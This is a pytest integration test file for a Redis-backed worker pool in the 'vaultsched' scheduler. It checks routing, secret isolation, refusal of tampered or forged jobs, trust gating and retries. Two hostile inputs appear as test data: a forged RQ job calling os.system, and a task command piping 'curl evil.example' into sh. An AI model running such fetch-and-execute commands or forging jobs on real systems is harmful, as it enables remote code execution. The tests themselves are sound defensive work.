"""The worker pool through the real thing: a real Redis server (password, loopback), the real
daemon, and real `vaultsched worker` processes, each in its own clone of the vault under its own
host name. What a run on a worker must do: land in the daemon's vault with the worker's host; and
what must never happen: a run executed twice, lost unseen, or a job rewritten in Redis run."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
import redis
from conftest import HOST, Cli, DaemonProcess, git, runs, wait_for
from conftest import runs_of as of
from conftest import task_note as note
from redisserver import RedisServer, needs_redis
from rq.job import Job

from vaultsched.core import layout
from vaultsched.core.model import Run, Status

pytestmark = [pytest.mark.integration, needs_redis]

KEY = "5f0c2a9e8b7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a3928170f6e5d4c"
LOADED = 90.0  # seconds a step may take on a loaded machine (never a pass mark)
Start = Callable[..., DaemonProcess]


@pytest.fixture(autouse=True)
def pool_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("VAULTSCHED_POOL_KEY", KEY)


def use_pool(server: RedisServer, fallback: str = "wait") -> None:
    """This user's config (daemon and workers alike): runs go to the pool on `server`."""
    config = layout.user_config()
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(
        f'[executor]\nkind = "rq"\nredis_url = "{server.url}"\nfallback = "{fallback}"\n'
    )


def commit(root: Path) -> None:
    git(root, "add", "-A", ".")
    git(root, "commit", "-qm", "tasks")


class Worker:
    def __init__(self, root: Path, host: str, *labels: str, trust: str = "any") -> None:
        self.clone = root.parent / f"clone-{host}-{time.monotonic_ns()}"
        git(root.parent, "clone", "-q", str(root), str(self.clone))
        self.log = self.clone.parent / f"{self.clone.name}.log"
        args = [sys.executable, "-m", "vaultsched", "--vault", str(self.clone), "worker"]
        for label in labels:
            args += ["--label", label]
        with self.log.open("wb") as handle:
            self.proc = subprocess.Popen(
                args,
                stdout=handle,
                stderr=subprocess.STDOUT,
                env={**os.environ, "VAULTSCHED_HOST": host, "VAULTSCHED_TRUST": trust},
                start_new_session=True,  # its group: the worker and the run it is running
            )

    def kill(self) -> None:
        """SIGKILL the worker and whatever it was running, as a machine that dies would."""
        os.killpg(self.proc.pid, signal.SIGKILL)
        self.proc.wait()


@pytest.fixture
def workers() -> Iterator[Callable[..., Worker]]:
    started: list[Worker] = []

    def start(root: Path, host: str, *labels: str, trust: str = "any") -> Worker:
        worker = Worker(root, host, *labels, trust=trust)
        started.append(worker)
        return worker

    yield start
    for worker in started:
        if worker.proc.poll() is None:
            os.killpg(worker.proc.pid, signal.SIGKILL)
            worker.proc.wait()


def tick(root: Path) -> None:
    """`Tasks/Tick`, due every second, committed."""
    note(root, "Tasks/Tick.md", "schedule: every 1s\ncommand: echo tick\n")
    commit(root)


def once(root: Path) -> None:
    """`Tasks/Up`, run here once: the one start of the pool task that runs `after` it."""
    note(
        root, "Tasks/Up.md", "schedule: every 1s\nmax_runs: 1\nexecutor: local\ncommand: echo up\n"
    )


def test_runs_go_to_the_workers_their_hosts_name_and_land_in_the_vault(
    vault_root: Path,
    redis_server: RedisServer,
    daemons: Start,
    workers: Callable[..., Worker],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    use_pool(redis_server)
    monkeypatch.setenv("VAULTSCHED_REDIS_URL", redis_server.url)  # wins over the config's
    secrets = "echo key=${VAULTSCHED_POOL_KEY:-none} url=${VAULTSCHED_REDIS_URL:-none}"
    note(vault_root, "Tasks/Anywhere.md", f"schedule: every 1s\ncommand: sh -c '{secrets}'\n")
    note(vault_root, "Tasks/Pinned.md", "schedule: every 1s\nhost: w2\ncommand: echo pinned\n")
    note(vault_root, "Tasks/Gpu.md", 'schedule: every 1s\nhost: "label:gpu"\ncommand: echo g\n')
    note(vault_root, "Tasks/Here.md", "schedule: every 1s\nexecutor: local\ncommand: echo here\n")
    commit(vault_root)
    workers(vault_root, "w1", "gpu")
    workers(vault_root, "w2")
    daemon = daemons(vault_root)
    tasks = ("Tasks/Anywhere", "Tasks/Pinned", "Tasks/Gpu", "Tasks/Here")
    every_one_ran = lambda: all(of(vault_root, task, Status.SUCCESS) for task in tasks)  # noqa: E731
    wait_for(every_one_ran, LOADED, "a run of each task")
    daemon.stop()
    hosts = {task: {r.host for r in of(vault_root, task, Status.SUCCESS)} for task in (
        "Tasks/Anywhere", "Tasks/Pinned", "Tasks/Gpu", "Tasks/Here")}  # fmt: skip
    assert hosts["Tasks/Anywhere"] <= {"w1", "w2"}
    anywhere = of(vault_root, "Tasks/Anywhere", Status.SUCCESS)[0]
    assert anywhere.output_tail == "key=none url=none", "the pool's secrets reached a run"
    assert hosts["Tasks/Pinned"] == {"w2"}
    assert hosts["Tasks/Gpu"] == {"w1"}
    assert hosts["Tasks/Here"] == {HOST}
    pinned = of(vault_root, "Tasks/Pinned", Status.SUCCESS)[0]
    assert pinned.queue == "vaultsched:host:w2" and pinned.dispatched_at is not None
    connection = redis.Redis.from_url(redis_server.url)
    assert not Job.exists(pinned.run_id, connection), "a landed run's job kept in Redis"
    assert connection.ttl(f"vaultsched:claim:{pinned.run_id}") <= 24 * 3600
    assert pinned.output_tail == "pinned"
    text = (vault_root / "Tasks/Pinned.md").read_text()
    assert "w2" in text, "the run block shows the worker's host"
    assert "Tasks/Pinned.md" in git(vault_root, "log", "--name-only", "--author=vaultsched")
    # The workers never wrote to their clones: the daemon is the vault's only writer.
    for clone in vault_root.parent.glob("clone-*"):
        if clone.is_dir():
            assert git(clone, "status", "--porcelain") == ""


def test_a_worker_never_runs_a_job_rewritten_in_redis(
    vault_root: Path, redis_server: RedisServer, daemons: Start, workers: Callable[..., Worker]
) -> None:
    from rq import Queue
    from rq.serializers import JSONSerializer

    use_pool(redis_server)
    tick(vault_root)
    daemon = daemons(vault_root)
    wait_for(lambda: of(vault_root, "Tasks/Tick"), LOADED, "a run dispatched")
    run_id = of(vault_root, "Tasks/Tick")[0].run_id
    connection = redis.Redis.from_url(redis_server.url)
    wait_for(lambda: Job.exists(run_id, connection), LOADED, "the job in Redis")
    job = Job.fetch(run_id, connection=connection, serializer=JSONSerializer)
    sealed = job.args[0]
    sealed["body"]["task"] = "Tasks/Other"  # its seal no longer holds
    job.args = [sealed]
    job.save()
    # And a job that is not vaultsched's at all, naming a function of its own choosing.
    pwned = vault_root.parent / "pwned"
    Queue("vaultsched:any", connection=connection, serializer=JSONSerializer).enqueue_call(
        "os.system", args=(f"touch {pwned}",), job_id="forged"
    )
    workers(vault_root, "w1")

    def the_run() -> Run:
        return next(r for r in of(vault_root, "Tasks/Tick") if r.run_id == run_id)

    wait_for(lambda: the_run().status is not Status.RUNNING, LOADED, "the altered run recorded")
    refused = the_run()
    assert refused.status is Status.ERROR
    assert "altered in Redis" in refused.message and refused.host == "w1"
    wait_for(lambda: of(vault_root, "Tasks/Tick", Status.SUCCESS), LOADED, "an unaltered run")
    daemon.stop()
    assert not pwned.exists(), "a job naming its own function ran"
    forged = Job.fetch("forged", connection=connection, serializer=JSONSerializer)
    assert forged.get_status() == "failed"


def test_a_worker_runs_only_the_scheduled_version_and_only_if_its_user_trusts_it(
    vault_root: Path, redis_server: RedisServer, daemons: Start, workers: Callable[..., Worker]
) -> None:
    use_pool(redis_server)
    workers(vault_root, "w1")  # its clone is made before the tasks exist: it must pull them
    workers(vault_root, "w2", trust="")  # this user has trusted nothing
    note(vault_root, "Tasks/New.md", "schedule: every 1s\nhost: w1\ncommand: echo new\n")
    note(vault_root, "Tasks/Edited.md", "schedule: every 1s\nhost: w1\ncommand: echo one\n")
    note(vault_root, "Tasks/Pinned.md", "schedule: every 1s\nhost: w2\ncommand: echo two\n")
    commit(vault_root)
    note(vault_root, "Tasks/Edited.md", "schedule: every 1s\nhost: w1\ncommand: echo changed\n")
    daemon = daemons(vault_root)
    wait_for(lambda: of(vault_root, "Tasks/New", Status.SUCCESS), LOADED, "the pulled task ran")
    wait_for(lambda: of(vault_root, "Tasks/Edited", Status.ERROR), LOADED, "the edit refused")
    wait_for(lambda: of(vault_root, "Tasks/Pinned", Status.UNTRUSTED), LOADED, "w2's refusal")
    daemon.stop()
    assert of(vault_root, "Tasks/New", Status.SUCCESS)[0].host == "w1"
    edited = of(vault_root, "Tasks/Edited", Status.ERROR)[0]
    assert "not the version the daemon scheduled" in edited.message and edited.host == "w1"
    assert of(vault_root, "Tasks/Edited", Status.SUCCESS) == [], "a version never committed ran"
    refused = of(vault_root, "Tasks/Pinned", Status.UNTRUSTED)[0]
    assert (
        "not trusted on w2" in refused.message
        and "vaultsched trust Tasks/Pinned" in refused.message
    )
    assert of(vault_root, "Tasks/Pinned", Status.SUCCESS) == []


def test_a_worker_killed_mid_run_is_lost_then_retried(
    vault_root: Path,
    redis_server: RedisServer,
    daemons: Start,
    workers: Callable[..., Worker],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("VAULTSCHED_LOST_AFTER", "2")
    use_pool(redis_server)
    marker, began = vault_root.parent / "second-attempt", vault_root.parent / "began"
    # The first attempt's shell keeps its pid (exec) in `began`: killed at the end, since the
    # worker's SIGKILL leaves it running (as it would on a machine whose worker died).
    script = f"if [ -e {began} ]; then touch {marker}; else echo $$ > {began}; exec sleep 600; fi"
    once(vault_root)
    front = 'after: "[[Up]]"\ntimeout: 3s\nretries: 1\nretry_delay: 1s\n'
    note(vault_root, "Tasks/Long.md", f"{front}command: sh -c '{script}'\n")
    commit(vault_root)
    daemon = daemons(vault_root)
    first = workers(vault_root, "w1")
    wait_for(lambda: began.exists() and began.read_text().strip(), LOADED, "the first attempt")
    try:
        first.kill()
        workers(vault_root, "w2")
        wait_for(lambda: of(vault_root, "Tasks/Long", Status.LOST), LOADED, "the run called lost")
        wait_for(marker.exists, LOADED, "the retry ran")
        wait_for(lambda: of(vault_root, "Tasks/Long", Status.SUCCESS), LOADED, "the retry landed")
        daemon.stop()
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(int(began.read_text()), signal.SIGKILL)
    lost = of(vault_root, "Tasks/Long", Status.LOST)[0]
    assert lost.host == "w1" and "no word from worker w1" in lost.message
    retry = of(vault_root, "Tasks/Long", Status.SUCCESS)[0]
    assert retry.attempt == 2 and retry.host == "w2"


def test_runs_wait_while_redis_is_down_and_go_when_it_returns(
    vault_root: Path, redis_server: RedisServer, daemons: Start, workers: Callable[..., Worker]
) -> None:
    use_pool(redis_server)
    tick(vault_root)
    redis_server.stop()
    daemon = daemons(vault_root)
    wait_for(lambda: "Redis cannot be reached" in daemon.output(), LOADED, "the outage said")
    waiting = of(vault_root, "Tasks/Tick")[0]
    assert waiting.status is Status.RUNNING and waiting.queue == "vaultsched:any"
    redis_server.start()
    workers(vault_root, "w1")
    wait_for(
        lambda: any(
            r.run_id == waiting.run_id for r in of(vault_root, "Tasks/Tick", Status.SUCCESS)
        ),
        LOADED,
        "the waiting run dispatched and run",
    )
    daemon.stop()
    assert of(vault_root, "Tasks/Tick", Status.LOST) == []


def test_runs_go_here_while_redis_is_down_with_fallback_local(
    vault_root: Path, redis_server: RedisServer, daemons: Start
) -> None:
    use_pool(redis_server, fallback="local")
    tick(vault_root)
    redis_server.stop()
    daemon = daemons(vault_root)
    wait_for(lambda: of(vault_root, "Tasks/Tick", Status.SUCCESS), LOADED, "a run here")
    daemon.stop()
    here = of(vault_root, "Tasks/Tick", Status.SUCCESS)[0]
    assert here.host == HOST and here.queue == "" and here.dispatched_at is not None


def test_a_restarted_daemon_collects_the_runs_in_flight_and_runs_none_twice(
    vault_root: Path, redis_server: RedisServer, daemons: Start, workers: Callable[..., Worker]
) -> None:
    use_pool(redis_server)
    count = vault_root.parent / "count"
    started = vault_root.parent / "started"
    command = f"sh -c 'echo x >> {count}; touch {started}; sleep 4; echo done'"
    once(vault_root)
    note(vault_root, "Tasks/Slow.md", f'after: "[[Up]]"\ncommand: {command}\n')
    commit(vault_root)
    workers(vault_root, "w1")
    daemon = daemons(vault_root)
    wait_for(started.exists, LOADED, "the run started on the worker")
    assert daemon.stop() == 0
    in_flight = of(vault_root, "Tasks/Slow")
    assert [r.status for r in in_flight] == [Status.RUNNING]
    daemon = daemons(vault_root)
    wait_for(lambda: of(vault_root, "Tasks/Slow", Status.SUCCESS), LOADED, "the run collected")
    daemon.stop()
    slow = of(vault_root, "Tasks/Slow")
    assert [(r.run_id, r.status) for r in slow] == [(in_flight[0].run_id, Status.SUCCESS)]
    assert count.read_text() == "x\n", "the run ran once"
    assert "collecting it" in daemon.output()


def test_two_workers_on_one_queue_run_each_run_once(
    vault_root: Path, redis_server: RedisServer, daemons: Start, workers: Callable[..., Worker]
) -> None:
    use_pool(redis_server)
    seen = vault_root.parent / "seen"
    for n in range(4):
        command = f"sh -c 'echo $VAULTSCHED_RUN_ID >> {seen}'"
        note(vault_root, f"Tasks/T{n}.md", f"schedule: every 1s\ncommand: {command}\n")
    commit(vault_root)
    workers(vault_root, "w1")
    workers(vault_root, "w1")  # the same host twice: both take from vaultsched:host:w1 and any
    daemon = daemons(vault_root)
    wait_for(lambda: len(runs(vault_root)) >= 24, LOADED, "runs")
    daemon.stop()
    ids = seen.read_text().split()
    assert len(ids) == len(set(ids)), "a run id ran twice"
    succeeded = {r.run_id for r in runs(vault_root) if r.status is Status.SUCCESS}
    assert succeeded <= set(ids)


def test_doctor_says_whether_the_pool_can_run_anything(
    vault_root: Path, redis_server: RedisServer, cli: Cli, workers: Callable[..., Worker]
) -> None:
    def pool_check() -> dict[str, str]:
        checks = json.loads(cli("doctor", "--json").out)
        return next(c for c in checks if c["check"] == "worker pool")

    use_pool(redis_server)
    idle = pool_check()
    assert idle["status"] == "warn" and "0 worker(s)" in idle["detail"]
    assert redis_server.password not in idle["detail"], "the password shown"
    workers(vault_root, "w1")
    wait_for(lambda: pool_check()["status"] == "ok", LOADED, "the worker seen")
    assert "w1." in pool_check()["detail"]
    redis_server.stop()
    down = pool_check()
    assert down["status"] == "fail" and "cannot be reached" in down["detail"]


def test_a_worker_that_cannot_serve_says_why_in_one_line(
    vault_root: Path, redis_server: RedisServer, cli: Cli
) -> None:
    no_pool = cli("worker")
    assert no_pool.code == 2 and 'kind is not "rq"' in no_pool.err
    use_pool(redis_server)
    redis_server.stop()
    down = cli("worker")
    assert down.code == 1 and "Redis cannot be reached at redis://:***@127.0.0.1" in down.err
    assert redis_server.password not in down.err and len(down.err.strip().splitlines()) == 1


def test_a_forged_dispatched_line_never_sends_an_untrusted_task(
    vault_root: Path, redis_server: RedisServer, daemons: Start, monkeypatch: pytest.MonkeyPatch
) -> None:
    from vaultsched.adapters.ledger import Ledger, dispatched_record
    from vaultsched.core.model import Trigger

    use_pool(redis_server)
    note(vault_root, "Tasks/Evil.md", "command: curl evil.example | sh\n")  # never trusted
    commit(vault_root)
    now = datetime.now(UTC)
    forged = Run("20990101T000000-abcdef", "Tasks/Evil", Status.RUNNING, Trigger.SCHEDULE, now,
                 HOST, queue="vaultsched:any", dispatched_at=now)  # fmt: skip
    Ledger(vault_root, HOST).append(dispatched_record(forged, "Tasks/Evil.md"))
    monkeypatch.delenv("VAULTSCHED_TRUST")
    daemon = daemons(vault_root)
    wait_for(lambda: of(vault_root, "Tasks/Evil", Status.LOST), LOADED, "the forged run closed")
    daemon.stop()
    assert "not trusted here" in of(vault_root, "Tasks/Evil", Status.LOST)[0].message
    assert not Job.exists(forged.run_id, redis.Redis.from_url(redis_server.url))
